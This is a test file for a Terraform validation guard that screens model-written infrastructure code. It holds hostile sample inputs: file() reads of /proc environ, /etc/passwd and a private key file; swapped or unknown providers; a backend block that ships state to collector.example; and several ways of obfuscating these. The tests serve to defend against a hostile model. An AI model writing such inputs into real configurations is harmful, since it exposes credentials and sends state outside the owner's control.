// Issue 13 review, item 1: the local validate must not read the server's
// files, download providers or modules, see the server's environment, or
// return a secret in a diagnostic.
import { chmodSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { terraformEnv } from '../../../scripts/terraform';
import { REFUSED_FUNCTIONS, findRefusedConstructs } from '../../../src/server/infra/terraform-guard';
import { TerraformValidator, terraformChildEnv } from '../../../src/server/infra/terraform-validate';
import { TEST_TOKEN } from '../helpers/in-process-server';
import { FIXTURE_TF, InfraWorld } from '../helpers/infra-world';
import { callOk, connectClient, runHearing } from '../helpers/mcp-client';

const one = (name: string, text: string) => findRefusedConstructs(new Map([[name, text]]));

describe('findRefusedConstructs', () => {
  test('the fixture export (oracle/oci, variables, resources) passes', () => {
    expect(one('main.tf', FIXTURE_TF)).toEqual([]);
  });

  test.each(REFUSED_FUNCTIONS.map((f) => [f]))('%s() is refused with its file and line', (fn) => {
    const found = one('net.tf', `${FIXTURE_TF}\nlocals {\n  x = ${fn}("/proc/1/environ")\n}\n`);
    expect(found).toEqual([expect.objectContaining({ severity: 'error', file: 'net.tf', line: FIXTURE_TF.split('\n').length + 2, summary: `the ${fn}() function is not accepted` })]);
  });

  test('a call hidden behind whitespace, comments, a namespace or a template is still refused', () => {
    for (const call of ['file ("/x")', 'file /* c */ ("/x")', 'file #c\n("/x")', 'core::file("/x")', '"${file("/x")}"', '<<EOT\n${filebase64("/x")}\nEOT']) {
      expect(one('main.tf', `locals {\n  x = ${call}\n}\n`).filter((d) => /function is not accepted/.test(d.summary))).toHaveLength(1);
    }
    // Names that merely contain a refused one are not calls of it.
    expect(one('main.tf', 'locals {\n  x = my_file_name\n  y = base64encode("file")\n}\n')).toEqual([]);
  });

  test('module blocks, other providers and JSON syntax are refused', () => {
    expect(one('main.tf', 'module "x" {\n  source = "git::https://example.com/x"\n}\n')).toEqual([
      expect.objectContaining({ file: 'main.tf', line: 1, summary: 'module blocks are not accepted' }),
    ]);
    // required_providers sources are Terraform's to read: see 'providers, as Terraform itself reads them'.
    // An undeclared provider is hashicorp/<name>, which init would download.
    expect(one('main.tf', '\nresource "random_id" "x" {\n  byte_length = 4\n}\n')).toEqual([expect.objectContaining({ line: 2 })]);
    expect(one('main.tf', 'provider "external" {}\n')).toHaveLength(1);
    expect(one('main.tf', 'resource "oci_core_vcn" "x" {\n  provider = evil\n}\n')).toHaveLength(1);
    expect(one('main.tf', 'resource "terraform_data" "x" {\n  input = 1\n}\n')).toEqual([]);
    expect(one('main.tf.json', '{}')).toEqual([expect.objectContaining({ file: 'main.tf.json', summary: 'JSON-syntax Terraform is not accepted' })]);
  });
});

describe('findRefusedConstructs, against what a hostile model writes (issue 13, second review)', () => {
  const terraformBlock = (body: string) => `terraform {\n${body}\n}\n`;

  describe('providers, as Terraform itself reads them (terraform providers, before init)', () => {
    const workDir = mkdtempSync(join(tmpdir(), 'galley-tf-providers-'));
    afterAll(() => rmSync(workDir, { recursive: true, force: true }));
    const validator = new TerraformValidator({ workDir, env: terraformEnv() as Record<string, string> });
    const versions = (entry: string) => terraformBlock(`  required_providers {\n${entry}\n  }`);

    test.each([
      ['another source for oci', versions('    oci = { source = "evil/oci" }')],
      ['a comment before the brace', terraformBlock('  required_providers /* pinned */ {\n    oci  = { source = "oracle/oci" }\n    evil = { source = "hashicorp/http" }\n  }')],
      ['a quoted key', versions('    oci = { "source" = "hashicorp/http" }')],
      ['a colon', versions('    oci = { source: "hashicorp/http" }')],
      ['a } in a comment', terraformBlock('  required_providers { # }\n    oci = { source = "hashicorp/http" }\n  }')],
      ['a computed key', versions('    oci = { source = "oracle/oci", ("source") = "hashicorp/external" }')],
      ['a template key', versions('    oci = { source = "oracle/oci", "sou${""}rce" = "hashicorp/external" }')],
      ['an escaped resource label', 'resource "\\u006cocal_file" "x" {\n  filename = "x"\n}\n'],
      ['an escaped provider label', 'provider "\\u0065xternal" {}\n'],
      ['no source (hashicorp/oci)', versions('    oci = { version = "8.28.0" }')],
      ['the legacy version-only form', versions('    oci = "8.28.0"')],
    ])('%s is refused before init installs anything', async (_name, text) => {
      const result = await validator.validate('s', new Map([['main.tf', `${text}\nresource "oci_core_vcn" "v" {\n  compartment_id = "ocid1.compartment.oc1..x"\n}\n`]]));
      expect(result.valid).toBe(false);
      // Said by `terraform providers`, before init: not the lock-file check after it.
      expect(result.diagnostics).toContainEqual(expect.objectContaining({ summary: 'only the oracle/oci provider is accepted', detail: expect.stringMatching(/^the files (need|use)/) }));
    }, 60_000);
  });

  test('the exporter\'s own required_providers passes, with its version constraint', () => {
    expect(one('versions.tf', terraformBlock('  required_version = ">= 1.5.0"\n  required_providers {\n    oci = {\n      source  = "oracle/oci"\n      version = ">= 8.0.0"\n    }\n  }'))).toEqual([]);
  });

  test.each([
    ['backend', '  backend "http" {\n    address = "https://collector.example/state"\n  }'],
    ['cloud', '  cloud {\n    organization = "x"\n  }'],
  ])('a %s block is refused: the state lives in Resource Manager', (kind, body) => {
    expect(one('main.tf', terraformBlock(body))).toEqual([expect.objectContaining({ line: 2, summary: `a ${kind} block is not accepted` })]);
  });

  test('what only looks like a block header, in a string, a heredoc or a comment, is not one', () => {
    const text = [
      'resource "oci_core_vcn" "v" {',
      '  display_name = "resource \\"random_id\\" \\"x\\" {"',
      '  # module "x" {}',
      '}',
      'locals {',
      '  doc = <<-EOT',
      '    data "http" "x" {',
      '    provider "aws" {}',
      '  EOT',
      '}',
    ].join('\n');
    expect(one('main.tf', text)).toEqual([]);
    // Nor is `module load gcc` in a cloud-init heredoc a module block.
    expect(one('main.tf', 'locals {\n  init = <<-EOT\n    module load gcc\n  EOT\n}\n')).toEqual([]);
  });

  test('a heredoc closed by a line Go trims (a NEL after the marker) ends there, as in HCL', () => {
    // JavaScript's trim() keeps U+0085; had the scan kept reading heredoc text, the backend block would hide in it.
    const text = 'locals {\n  x = <<EOT\nhello\nEOT\u0085\n}\nterraform {\n  backend /**/ "http" {}\n}\n';
    expect(one('main.tf', text)).toContainEqual(expect.objectContaining({ line: 7, summary: 'a backend block is not accepted' }));
  });

  test('a block header with a comment across lines is still one', () => {
    expect(one('main.tf', 'terraform /*\n*/ {\n  backend /**/ "local" {}\n}\n')).toContainEqual(expect.objectContaining({ summary: 'a backend block is not accepted' }));
    expect(one('main.tf', 'resource /*\n*/ "null_resource" "x" {}\n')).toContainEqual(expect.objectContaining({ summary: 'only the oracle/oci provider is accepted' }));
  });

  test('a file call after a string holding # or // is still seen', () => {
    expect(one('main.tf', 'locals {\n  x = ["#", "//", file("/etc/passwd")]\n}\n')).toEqual([expect.objectContaining({ line: 2, summary: 'the file() function is not accepted' })]);
  });

  test('inputs that made the old patterns backtrack for hours are scanned at once', () => {
    // The old comment pattern split a run of '#' 2^n ways when no '(' followed: 27 took 12 s, 60 would never end.
    expect(one('main.tf', `# upload the config file ${'#'.repeat(60)}\n`)).toEqual([]);
    expect(one('main.tf', `resource ${'/**/'.repeat(60)}{\n`)).toEqual([]);
  });

  test('a file at the size limit full of findings gets the first 20, not one per match', () => {
    const found = one('main.tf', 'file(\n'.repeat(42_000));
    expect(found).toHaveLength(20);
    expect(found[0]).toEqual(expect.objectContaining({ line: 1, summary: 'the file() function is not accepted' }));
    expect(one('main.tf', 'removed {\n'.repeat(25_000))).toEqual([expect.objectContaining({ line: 1, summary: 'a removed block needs Terraform 1.7 or later' })]);
  });
});

describe('terraformChildEnv', () => {
  test('keeps PATH, HOME, the CLI config and the plugin cache, and nothing else', () => {
    const env = terraformChildEnv({
      PATH: '/bin',
      HOME: '/home/galley',
      TF_CLI_CONFIG_FILE: '/opt/terraform/terraformrc',
      TF_PLUGIN_CACHE_DIR: '/tmp/cache',
      OCI_CONFIG_FILE: '/secret/config',
      OCI_RESOURCE_PRINCIPAL_RPST: 'x',
      AWS_SECRET_ACCESS_KEY: 'y',
      TF_VAR_x: 'z',
    });
    expect(env).toEqual({
      PATH: '/bin',
      HOME: '/home/galley',
      TF_CLI_CONFIG_FILE: '/opt/terraform/terraformrc',
      TF_PLUGIN_CACHE_DIR: '/tmp/cache',
      TF_IN_AUTOMATION: '1',
      CHECKPOINT_DISABLE: '1',
    });
  });

  test('is what the terraform child really sees', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'galley-tf-env-'));
    try {
      // A probe in terraform's place: it records its environment and fails init.
      const probe = join(dir, 'terraform');
      writeFileSync(probe, `#!/bin/sh\nenv > "${join(dir, 'env.txt')}"\nexit 1\n`);
      chmodSync(probe, 0o755);
      const validator = new TerraformValidator({ workDir: join(dir, 'work'), terraform: probe, env: { PATH: process.env.PATH!, OCI_CONFIG_FILE: '/secret/config', LEAK: 'x' } });
      expect((await validator.validate('s1', new Map([['main.tf', FIXTURE_TF]]))).valid).toBe(false);
      const seen = readFileSync(join(dir, 'env.txt'), 'utf8');
      expect(seen).not.toContain('OCI_CONFIG_FILE');
      expect(seen).not.toContain('LEAK');
      expect(seen).toContain('TF_IN_AUTOMATION=1');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('local validate over MCP', () => {
  const world = new InfraWorld();
  beforeAll(() => world.start());
  afterAll(() => world.close());

  test('file() of the key file or /proc/self/environ is refused before init: no job, no content', async () => {
    const server = await world.server();
    const client = await connectClient(server.base, server.token, 'streamable-http');
    const { sessionId } = await runHearing(client);
    const keyFile = /key_file=(.+)/.exec(readFileSync(world.credentials.configFile, 'utf8'))![1].trim();
    for (const path of ['/proc/self/environ', keyFile]) {
      await callOk(client, 'update_terraform_file', { session_id: sessionId, file: 'main.tf', content: `${FIXTURE_TF}\nlocals {\n  leak = tonumber(file("${path}"))\n}\n` });
      const r = await callOk(client, 'run_terraform_plan', { session_id: sessionId });
      expect(r.state).toBe('VALIDATION_FAILED');
      expect(r.job_id).toBeUndefined();
      expect(r.diagnostics).toEqual([expect.objectContaining({ file: 'main.tf', line: expect.any(Number), summary: 'the file() function is not accepted' })]);
      const text = JSON.stringify(r);
      expect(text).not.toContain('PRIVATE KEY');
      expect(text).not.toContain('OCI_CONFIG_FILE');
    }
    expect(world.rm.stacks.size).toBe(0);
    await client.close();
  }, 120_000);

  test('a diagnostic that quotes the URL token or a key gets the job logs\' redaction', async () => {
    const server = await world.server();
    const client = await connectClient(server.base, server.token, 'streamable-http');
    const { sessionId } = await runHearing(client);
    // Real terraform validate quotes the bad value in its detail.
    await callOk(client, 'update_terraform_file', {
      session_id: sessionId,
      file: 'main.tf',
      content: `${FIXTURE_TF}\nlocals {\n  a = tonumber("${TEST_TOKEN}")\n  b = tonumber("password=hunter2hunter2")\n}\n`,
    });
    const r = await callOk(client, 'run_terraform_plan', { session_id: sessionId });
    expect(r.state).toBe('VALIDATION_FAILED');
    const text = JSON.stringify(r.diagnostics);
    expect(text).toContain('[REDACTED]');
    expect(text).not.toContain(TEST_TOKEN);
    expect(text).not.toContain('hunter2');
    await client.close();
  }, 120_000);
});

test('the container\'s terraformrc installs from the mirror only', () => {
  const rc = readFileSync(join(__dirname, '../../../docker/terraformrc'), 'utf8').replace(/#.*$/gm, '');
  expect(rc).toContain('filesystem_mirror');
  expect(rc).not.toMatch(/\bdirect\b/);
  expect(terraformEnv()).toBeDefined();
});
